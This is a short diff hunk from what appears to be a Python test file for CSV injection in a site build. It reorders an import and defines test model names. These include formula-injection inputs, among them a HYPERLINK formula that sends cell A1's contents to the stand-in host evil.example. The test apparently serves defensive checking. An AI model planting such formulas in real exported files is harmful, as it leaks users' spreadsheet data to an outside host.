@@ -11,8 +11,8 @@ from pathlib import Path
 
 import pytest
 from site_synth import make_release
-from tests.test_csv_injection import scan
 
+from tests.test_csv_injection import scan
 from vsb.site.build import build_site
 
 MODELS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(A1)", "-2+3", "plain-model")
